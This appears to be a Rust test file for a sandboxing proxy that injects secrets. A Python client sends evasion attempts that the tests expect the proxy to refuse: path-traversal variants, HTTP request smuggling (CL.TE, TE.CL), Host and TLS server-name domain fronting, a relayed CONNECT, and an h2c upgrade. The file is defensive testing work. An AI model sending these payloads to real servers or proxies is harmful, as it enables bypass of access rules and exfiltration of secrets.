/// `SNI` (`-`: none), then `BYTES` as written (`@TOK@`
/// standing for the placeholder in `TOK`), then everything read until the other side
/// closes. Each connection's output follows a `@@conn@@` line: the raw response, or
/// `connect-refused: STATUS` or `tls-refused: ERROR`.
const PY_BYPASS: &str = r#"
import os, socket, ssl, sys
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTPS_PROXY"])
tok = os.environ.get("TOK", "")
args = sys.argv[1:]
for i in range(0, len(args) - 2, 3):
    target, sni, data = args[i], args[i + 1], args[i + 2]
    sys.stdout.write("@@conn@@\n")
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        b = s.recv(1)
        if not b:
            break
        answer += b
    status = answer.split(b"\r\n")[0].decode("latin-1")
    if status.split(" ")[1:2] != ["200"]:
        sys.stdout.write(f"connect-refused: {status}\n")
        s.close()
        continue
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    # The chain is always verified; the name only when it is the target's: a command
    # bent on a bypass takes any certificate the proxy would hand it.
    ctx.check_hostname = sni == target.rsplit(":", 1)[0]
    try:
        t = ctx.wrap_socket(s, server_hostname=None if sni == "-" else sni)
    except (ssl.SSLError, OSError) as e:
        sys.stdout.write(f"tls-refused: {type(e).__name__}: {e}\n")
        s.close()
        continue
    t.sendall(data.replace("@TOK@", tok).encode("latin-1"))
    out = b""
    try:
        while True:
            b = t.recv(65536)
            if not b:
                break
            out += b
    except (ssl.SSLError, OSError):
        pass
    t.close()
    sys.stdout.write(out.decode("latin-1") + "\n")
sys.stdout.flush()
"#;

/// One connection of the bypass client: the `CONNECT` target, the TLS server name (`-`:
/// none), the bytes sent.
struct Conn {
    target: String,
    sni: String,
    bytes: String,
}

impl Conn {
    /// `bytes` on a connection to `api.test` with its own name as the server name.
    fn api(up: &Upstream, bytes: String) -> Self {
        Self {
            target: format!("api.test:{}", up.port),
            sni: "api.test".into(),
            bytes,
        }
    }
}

/// `GET PATH` to `api.test` with nothing else in its head but `headers` (each ending in
/// CRLF), the connection closed after it.
fn get(up: &Upstream, path: &str, headers: &str) -> String {
    format!(
        "GET {path} HTTP/1.1\r\nHost: api.test:{}\r\n{headers}Connection: close\r\n\r\n",
        up.port
    )
}

/// Run the bypass client for `conns` in the setting `s` (secret `TOK` for `api.test`,
/// `rules` for it); the outcome, and each connection's output in order.
async fn bypass_run(
    ctx: &Context,
    s: &Setup,
    up: &Upstream,
    rules: &[&str],
    conns: &[Conn],
) -> Result<(SandboxOutcome, Vec<String>), Failure> {
    let mut opts = s.opts(ctx, up, "")?;
    let mut argv: Vec<OsString> = vec!["python3".into(), "-c".into(), PY_BYPASS.into()];
    for c in conns {
        argv.extend([&c.target, &c.sni, &c.bytes].map(OsString::from));
    }
    opts.argv = argv;
    opts.allow_requests = rules.iter().map(|r| (*r).to_owned()).collect();
    let o = ctx.run(opts).await?;
    let out: Vec<String> = o
        .stdout
        .text()
        .split("@@conn@@\n")
        .skip(1)
        .map(str::to_owned)
        .collect();
    ensure!(
        o.status.success() && out.len() == conns.len(),
        "the bypass client did not make its {} connections: {}",
        conns.len(),
        crate::context::describe(&o)
    );
    Ok((o, out))
}

/// The requests the upstream read whose request line holds `needle`.
fn upstream_lines_with(up: &Upstream, needle: &str) -> Vec<String> {
    up.seen()
        .into_iter()
        .filter(|r| r.lines().next().is_some_and(|l| l.contains(needle)))
        .collect()
}

/// Whether the record refused something for the reason `why` (a part of it).
fn refused_for(o: &SandboxOutcome, why: &str) -> bool {
    refused(o).iter().any(|w| w.contains(why))
}

/// Every ambiguous path form is refused on a host with request rules, never guessed: `;`
/// (`/allowed/..;/admin` and `;.`, OpenShell CVE-2026-100971), a fragment, an encoded
/// slash, an encoded backslash, a double encoding, a NUL. The upstream reads exactly the
/// canonical path of the one request that passes, and none of the refused ones.
pub async fn ambiguous_paths_refused_canonical_path_passes(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-paths", &up)?;
    // Each form, and the reason the proxy must give for it.
    let forms = [
        ("/allowed/..;/admin", "a `;` in the path"),
        ("/allowed/;./admin", "a `;` in the path"),
        ("/allowed/.%3b/admin", "a `;` in the path"),
        ("/allowed/x#/../../admin", "a fragment"),
        ("/allowed/..%2fadmin", "an encoded slash"),
        ("/allowed/..%5cadmin", "a backslash"),
        ("/allowed/..%252fadmin", "a double encoding"),
        ("/allowed/x%00/../../admin", "a NUL"),
    ];
    let canonical = ("/allowed//x/./y/../%7Ez", "/allowed/x/~z");
    let mut conns: Vec<Conn> = forms
        .iter()
        .map(|(p, _)| Conn::api(&up, get(&up, p, "")))
        .collect();
    conns.push(Conn::api(&up, get(&up, canonical.0, "")));
    let rule = "GET https://api.test/allowed/**";
    let (o, out) = bypass_run(&ctx, &s, &up, &[rule], &conns).await?;
    let passed = out.last().cloned().unwrap_or_default();
    ensure!(
        passed.starts_with("HTTP/1.1 200") && passed.contains("ok\n"),
        "the canonical request did not pass: {passed}; {}",
        crate::context::describe(&o)
    );
    let want = format!("GET {} HTTP/1.1\r\n", canonical.1);
    ensure!(
        up.seen().iter().any(|r| r.starts_with(&want)),
        "the upstream did not read the canonical path {}: {:?}",
        canonical.1,
        up.seen()
    );
    let mut f = Forbidden::new(&ctx);
    // Every refused form names `admin`, in whatever reading a server would make of it.
    for (path, _) in &forms {
        f.check(
            &format!("`{path}` reached the upstream"),
            up.seen()
                .iter()
                .any(|r| r.contains(path) || r.contains("admin")),
            || format!("the upstream read: {:?}", up.seen()),
        );
    }
    f.check(
        "the upstream read more than the canonical request",
        up.seen().len() != 1,
        || format!("it read: {:?}", up.seen()),
    );
    f.finish()?;
    for ((path, why), answer) in forms.iter().zip(&out) {
        ensure!(
            answer.starts_with("HTTP/1.1 403") && answer.contains(why),
            "`{path}` was not refused for {why:?}: {answer}"
        );
        ensure!(
            refused(&o)
                .iter()
                .any(|w| w.starts_with("request refused: ") && w.contains(why)),
            "the record does not refuse {path} for {why:?}: {:?}",
            refused(&o)
        );
    }
    ensure!(
        o.connections.entries.iter().any(|c| {
            c.request.as_ref().is_some_and(|r| r.path == canonical.1)
                && matches!(&c.decision, Decision::Allowed(r) if r == rule)
        }),
        "the record does not allow {} by the rule: {:?}",
        canonical.1,
        o.connections.entries
    );
    Ok(())
}

/// A body framed two ways (`Content-Length` and `Transfer-Encoding` both, in either order;
/// a disguised `Transfer-Encoding`) is refused, and a second request sent in the same
/// bytes after a body is judged on its own (here refused, a fronted `Host`): the upstream
/// never reads the smuggled request.
pub async fn request_smuggling_refused(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-smuggle", &up)?;
    let host = format!("api.test:{}", up.port);
    let smuggled = format!("GET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let chunked_hiding = format!("0\r\n\r\n{smuggled}");
    let forms = [
        (
            "CL.TE",
            format!(
                "POST /a HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\n\
                 Transfer-Encoding: chunked\r\n\r\n{chunked_hiding}",
                chunked_hiding.len()
            ),
            "both Content-Length and Transfer-Encoding",
        ),
        (
            "TE.CL",
            format!(
                "POST /a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\
                 Content-Length: 4\r\n\r\n{:x}\r\n{smuggled}\r\n0\r\n\r\n",
                smuggled.len()
            ),
            "both Content-Length and Transfer-Encoding",
        ),
        (
            "TE disguised",
            format!(
                "POST /a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked, identity\r\n\
                 \r\n{chunked_hiding}"
            ),
            "a Transfer-Encoding other than one `chunked`",
        ),
        (
            "pipelined after a body",
            format!(
                "POST /keep HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1\r\n\r\nx\
                 GET /smuggled HTTP/1.1\r\nHost: other.test:{}\r\n\r\n",
                up.port
            ),
            "a Host header for another host (fronting)",
        ),
    ];
    let conns: Vec<Conn> = forms
        .iter()
        .map(|(_, bytes, _)| Conn::api(&up, bytes.clone()))
        .collect();
    let (o, out) = bypass_run(&ctx, &s, &up, &[], &conns).await?;
    ensure!(
        upstream_lines_with(&up, "POST /keep ")
            .iter()
            .any(|r| r.ends_with("\r\n\r\nx")),
        "the request before the pipelined one did not reach the upstream whole: {:?}; {}",
        up.seen(),
        crate::context::describe(&o)
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "the smuggled request reached the upstream",
        up.seen().iter().any(|r| r.contains("/smuggled")),
        || format!("the upstream read: {:?}", up.seen()),
    );
    f.check(
        "a request framed two ways reached the upstream",
        !upstream_lines_with(&up, "POST /a ").is_empty(),
        || format!("the upstream read: {:?}", up.seen()),
    );
    f.finish()?;
    for ((name, _, why), answer) in forms.iter().zip(&out) {
        ensure!(
            answer.contains("HTTP/1.1 403") && answer.contains(why),
            "{name} was not refused for {why:?}: {answer}"
        );
        ensure!(
            refused_for(&o, why),
            "the record does not refuse {name}: {:?}",
            refused(&o)
        );
    }
    ensure!(
        out[3].starts_with("HTTP/1.1 200"),
        "the request before the pipelined one was not answered: {}",
        out[3]
    );
    Ok(())
}

/// A fronted `Host` on a terminated host (another name, a second `Host`, an absolute-form
/// target for another host) is refused; a `Host` the proxy accepts in another spelling
/// (capitals, a trailing dot) reaches the upstream as the decided authority, never as the
/// client wrote it.
pub async fn fronted_host_header_refused(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-fronted", &up)?;
    let p = up.port;
    let fronted = [
        format!("GET /fronted HTTP/1.1\r\nHost: other.test:{p}\r\nConnection: close\r\n\r\n"),
        format!(
            "GET /fronted HTTP/1.1\r\nHost: api.test:{p}\r\nHost: other.test:{p}\r\n\
             Connection: close\r\n\r\n"
        ),
        format!(
            "GET https://other.test:{p}/fronted HTTP/1.1\r\nHost: api.test:{p}\r\n\
             Connection: close\r\n\r\n"
        ),
    ];
    let respelt =
        format!("GET /respelt HTTP/1.1\r\nHost: API.Test.:{p}\r\nConnection: close\r\n\r\n");
    let mut conns: Vec<Conn> = fronted.iter().map(|b| Conn::api(&up, b.clone())).collect();
    conns.push(Conn::api(&up, respelt));
    let (o, out) = bypass_run(&ctx, &s, &up, &[], &conns).await?;
    let respelt_seen = upstream_lines_with(&up, "GET /respelt ");
    ensure!(
        out[3].starts_with("HTTP/1.1 200") && respelt_seen.len() == 1,
        "the request with a respelt Host did not pass: {}; {}",
        out[3],
        crate::context::describe(&o)
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "a fronted request reached the upstream",
        up.seen().iter().any(|r| r.contains("/fronted")),
        || format!("the upstream read: {:?}", up.seen()),
    );
    f.check(
        "the client's Host reached the upstream",
        up.seen()
            .iter()
            .any(|r| r.contains("other.test") || r.contains("API.Test")),
        || format!("the upstream read: {:?}", up.seen()),
    );
    f.check(
        "the upstream's Host is not the decided authority",
        !respelt_seen[0]
            .lines()
            .filter(|l| l.to_ascii_lowercase().starts_with("host:"))
            .eq([format!("Host: api.test:{p}").as_str()]),
        || format!("it read: {:?}", respelt_seen[0]),
    );
    f.finish()?;
    let whys = [
        "a Host header for another host (fronting)",
        "a Host header for another host (fronting)",
        "an absolute-form target for another host",
    ];
    for (why, answer) in whys.iter().zip(&out) {
        ensure!(
            answer.starts_with("HTTP/1.1 403") && answer.contains(why),
            "not refused for {why:?}: {answer}"
        );
        ensure!(
            refused_for(&o, why),
            "the record does not say {why:?}: {:?}",
            refused(&o)
        );
    }
    Ok(())
}

/// A TLS server name other than the `CONNECT` target is refused: on the terminated host
/// (another name, none, an address as a client reaching it by IP sends), and on a tunnel
/// to another allowed host whose hello names the terminated one (fronting past its rules);
/// the terminated host's address as the target is refused at the `CONNECT`. Only the
/// matching connection's request reaches the upstream.
pub async fn mismatched_server_name_refused(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-sni", &up)?;
    let p = up.port;
    let bad = get(&up, "/mismatched", "");
    let via = |target: &str, sni: &str| Conn {
        target: target.to_owned(),
        sni: sni.to_owned(),
        bytes: bad.clone(),
    };
    let conns = [
        via(&format!("api.test:{p}"), "other.test"),
        via(&format!("api.test:{p}"), "-"),
        via(&format!("api.test:{p}"), "127.0.0.1"),
        via(&format!("other.test:{p}"), "api.test"),
        via(&format!("127.0.0.1:{p}"), "api.test"),
        Conn::api(&up, get(&up, "/matching", "")),
    ];
    let (o, out) = bypass_run(&ctx, &s, &up, &[], &conns).await?;
    ensure!(
        out[5].starts_with("HTTP/1.1 200") && upstream_lines_with(&up, "/matching").len() == 1,
        "the matching connection did not pass: {}; {}",
        out[5],
        crate::context::describe(&o)
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "a request on a mismatched connection reached the upstream",
        !upstream_lines_with(&up, "/mismatched").is_empty(),
        || format!("the upstream read: {:?}", up.seen()),
    );
    for (i, what) in [
        "another server name on the terminated host",
        "no server name on the terminated host",
        "an address as the server name",
        "the terminated host's name through another host's tunnel",
    ]
    .iter()
    .enumerate()
    {
        f.check(what, out[i].contains("HTTP/1.1 200"), || {
            format!("answered: {}", out[i])
        });
    }
    f.check(
        "the terminated host's address connected",
        !out[4].starts_with("connect-refused: HTTP/1.1 403"),
        || format!("answered: {}", out[4]),
    );
    f.finish()?;
    for (i, answer) in out.iter().take(4).enumerate() {
        ensure!(
            answer.starts_with("tls-refused:") || answer.trim().is_empty(),
            "connection {i} was not refused at its handshake: {answer}"
        );
    }
    let tls_refusals = o
        .connections
        .entries
        .iter()
        .filter(|c| {
            c.host == "api.test"
                && matches!(&c.decision, Decision::Denied(w) if w.starts_with("TLS from the command refused"))
        })
        .map(|c| c.count)
        .sum::<u64>();
    ensure!(
        tls_refusals >= 3,
        "the record does not refuse the three handshakes to api.test: {:?}",
        o.connections.entries
    );
    ensure!(
        refused_for(
            &o,
            "TLS server name api.test is not the tunnel's host (domain fronting)"
        ),
        "the record does not refuse the fronted tunnel: {:?}",
        refused(&o)
    );
    ensure!(
        o.connections
            .entries
            .iter()
            .any(|c| c.host == "127.0.0.1" && !c.decision.is_allowed()),
        "the record does not refuse the address: {:?}",
        o.connections.entries
    );
    Ok(())
}

/// A `CONNECT` sent inside the terminated connection (claude-code#87381: a relayed
/// CONNECT as a second way out) is refused, first or after a request on a kept-alive
/// connection: the upstream never reads it, and the proxy never connects its target.
pub async fn relayed_connect_refused(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-relayed", &up)?;
    let p = up.port;
    let inner = format!("CONNECT other.test:{p} HTTP/1.1\r\nHost: other.test:{p}\r\n\r\n");
    let conns = [
        Conn::api(&up, inner.clone()),
        Conn::api(
            &up,
            format!("GET /keep HTTP/1.1\r\nHost: api.test:{p}\r\n\r\n{inner}"),
        ),
    ];
    let (o, out) = bypass_run(&ctx, &s, &up, &[], &conns).await?;
    ensure!(
        out[1].starts_with("HTTP/1.1 200") && upstream_lines_with(&up, "GET /keep ").len() == 1,
        "the request before the relayed CONNECT did not pass: {}; {}",
        out[1],
        crate::context::describe(&o)
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "the relayed CONNECT reached the upstream",
        up.seen().iter().any(|r| r.contains("CONNECT")),
        || format!("the upstream read: {:?}", up.seen()),
    );
    f.check(
        "the relayed CONNECT was answered as a tunnel",
        out.iter().any(|a| a.contains("Connection established")),
        || format!("answered: {out:?}"),
    );
    f.check(
        "the proxy connected the relayed target",
        o.connections.entries.iter().any(|c| c.host == "other.test"),
        || format!("the record: {:?}", o.connections.entries),
    );
    f.finish()?;
    let why = "CONNECT inside a terminated connection";
    ensure!(
        out.iter()
            .all(|a| a.contains("HTTP/1.1 403") && a.contains(why)),
        "the relayed CONNECT was not refused: {out:?}"
    );
    let refusals = o
        .connections
        .entries
        .iter()
        .filter(|c| matches!(&c.decision, Decision::Denied(w) if w.contains(why)))
        .map(|c| c.count)
        .sum::<u64>();
    ensure!(
        refusals == 2,
        "the record does not refuse both: {:?}",
        o.connections.entries
    );
    Ok(())
}

/// A WebSocket upgrade to the secret's host carries the real value upstream (the
/// placeholder replaced in its headers) and then bytes both ways; `Upgrade: h2c` is
/// refused and never reaches the upstream.
pub async fn websocket_carries_the_value_h2c_refused(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-websocket", &up)?;
    let p = up.port;
    let ws = format!(
        "GET /ws HTTP/1.1\r\nHost: api.test:{p}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\
         Authorization: Bearer @TOK@\r\n\r\n{WS_FRAME}"
    );
    let h2c = format!(
        "GET /h2c HTTP/1.1\r\nHost: api.test:{p}\r\nUpgrade: h2c\r\n\
         Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
         Authorization: Bearer @TOK@\r\n\r\n"
    );
    let conns = [Conn::api(&up, ws), Conn::api(&up, h2c)];
    let (o, out) = bypass_run(&ctx, &s, &up, &[], &conns).await?;
    ensure!(
        out[0].starts_with("HTTP/1.1 101") && out[0].contains(&format!("echo:{WS_FRAME}")),
        "the upgrade did not carry bytes both ways: {}; {}",
        out[0],
        crate::context::describe(&o)
    );
    let upgraded = upstream_lines_with(&up, "GET /ws ");
    ensure!(
        upgraded.len() == 1
            && upgraded[0].contains(&format!("Authorization: Bearer {}\r\n", s.value)),
        "the upstream did not read the value in the upgrade: {:?}",
        up.seen()
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "the placeholder reached the upstream",
        up.seen()
            .iter()
            .any(|r| r.contains(sandbox_core::secret::PLACEHOLDER_PREFIX)),
        || format!("the upstream read: {:?}", up.seen()),
    );
    f.check(
        "the h2c upgrade reached the upstream",
        !upstream_lines_with(&up, "/h2c").is_empty(),
        || format!("the upstream read: {:?}", up.seen()),
    );
    f.check(
        "the value back in the outcome",
        value_in_outcome(&o, &s.value),
        || "the outcome holds the value".into(),
    );
    f.finish()?;
    let why = "an upgrade other than websocket (h2c is refused)";
    ensure!(
        out[1].starts_with("HTTP/1.1 403") && out[1].contains(why),
        "h2c was not refused: {}",
        out[1]
    );
    ensure!(
        refused_for(&o, why),
        "the record does not refuse h2c: {:?}",
        refused(&o)
    );
    ensure!(
        o.connections.entries.iter().any(|c| c
            .request
            .as_ref()
            .is_some_and(|r| r.path == "/ws" && r.injected == ["TOK"])
            && c.decision.is_allowed()),
        "the record does not show TOK injected into the upgrade: {:?}",
        o.connections.entries
    );
    Ok(())
}
